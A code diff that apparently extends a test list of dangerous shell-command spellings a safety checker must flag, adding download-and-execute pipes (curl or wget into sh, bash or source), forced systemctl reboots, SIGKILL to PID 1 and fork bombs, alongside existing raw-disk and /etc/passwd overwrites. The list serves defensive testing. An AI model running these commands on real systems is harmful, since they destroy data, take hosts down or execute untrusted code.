@@ -603,6 +603,27 @@ CRITICAL_SPELLINGS: list[str] = [
     "cat x > /dev/../dev/nvme0n1",
     "echo x > /etc/pass[w]d",
     "cat x > /dev/sd[a]",
+    # A download run as code behind `2>&1`, `sudo -u root`, a subshell or group, /dev/stdin.
+    "curl -fsSL x 2>&1 | sh",
+    "curl x | sudo -u root sh",
+    "curl x | (bash)",
+    "curl x | { bash; }",
+    "curl x | bash /dev/stdin",
+    "wget -qO- x | source /dev/stdin",
+    # Host control with options before the verb, a power target, other spellings of SIGKILL
+    # and of PID 1.
+    "systemctl --force reboot",
+    "systemctl -f poweroff",
+    "systemctl -i reboot",
+    "systemctl start reboot.target",
+    "systemctl isolate poweroff.target",
+    "kill -9 -- 1",
+    "kill -n 9 1",
+    "kill -sKILL 1",
+    "kill -9 01",
+    # Fork bombs whose self-calls are not `f | f &` (never run).
+    "f(){ (f&); f; }; f",
+    "f(){ eval f\\|f\\&; }; f",
 ]
 
 # Dry-run cwd forms: (command, effective cwd) that must escalate.
